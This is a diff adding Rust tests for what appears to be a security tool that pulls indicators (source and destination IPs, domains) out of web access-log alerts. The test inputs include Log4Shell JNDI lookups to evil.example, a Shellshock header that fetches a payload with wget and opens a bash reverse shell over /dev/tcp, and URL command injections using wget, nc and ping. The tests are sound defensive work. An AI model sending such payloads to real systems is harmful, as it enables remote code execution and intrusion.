@@ -116,3 +116,49 @@ fn the_stream_in_a_file_is_no_name_of_a_file() {
     let added = json!({"syscheck": {"path": "/srv/x/a:b.sh", "event": "added"}});
     expect(&added, &[("filename", "a:b.sh")]);
 }
+
+/// A request as an access log tells of it, with what stands in quotation marks behind it.
+fn request(url: &str, referrer: &str, agent: &str) -> Value {
+    let line = format!(
+        "203.0.113.9 - - [20/Jan/2026:10:00:00 +0100] \"GET {url} HTTP/1.1\" 200 12 \"{referrer}\" \"{agent}\""
+    );
+    json!({"decoder": {"name": "web-accesslog"}, "data": {"srcip": "203.0.113.9", "url": url}, "full_log": line})
+}
+
+#[test]
+fn a_payload_ends_where_the_field_ends_that_holds_it() {
+    let (own, robot) = ("https://shop.test-org.com/login", "x (+http://www.google.com/bot.html)");
+    let evil = [("domain", "evil.example"), ("url", "ldap://evil.example/a")];
+    let from = ("ip-src", "203.0.113.9");
+    for look_up in ["${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a"] {
+        let asked = request(&format!("/login?u={look_up}"), own, robot);
+        expect(&asked, &[from, evil[0], evil[1]]);
+    }
+    expect(&request("/?x=${name}:1", own, robot), &[from]);
+    let asked = format!("GET /?u=${{jndi:ldap://evil.example/a}}&next={own} HTTP/1.1");
+    expect(&json!({"full_log": asked}), &evil);
+    let json = json!({"msg": "hi ${jndi:ldap://evil.example/a}", "referer": own, "docs": "${env:X}"}).to_string();
+    expect(&json!({"full_log": json}), &evil);
+}
+
+#[test]
+fn addresses_are_found_in_payloads_that_name_no_scheme() {
+    let (from, to) = (("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66"));
+    let shell = "() { :; }; /bin/bash -c 'wget 203.0.113.66/x; bash -i >& /dev/tcp/203.0.113.67/4444'";
+    expect(
+        &request("/cgi-bin/x", "-", shell),
+        &[from, to, ("ip-dst", "203.0.113.67")],
+    );
+    for url in [
+        "/cgi-bin/;wget${IFS}203.0.113.66/x;sh",
+        "/cgi-bin/;wget$%7bIFS%7d203.0.113.66/x",
+        "/a%7Cnc%20203.0.113.66%204444",
+        "/%60ping%20203.0.113.66%60?b=c",
+        "/shell?cd+/tmp;wget+203.0.113.66/x",
+    ] {
+        expect(&request(url, "-", "-"), &[from, to]);
+    }
+    for url in ["/whois/203.0.113.66", "/a/203.0.113.66?q=203.0.113.67", "/"] {
+        expect(&request(url, "-", "function() { 203.0.113.68"), &[from]);
+    }
+}
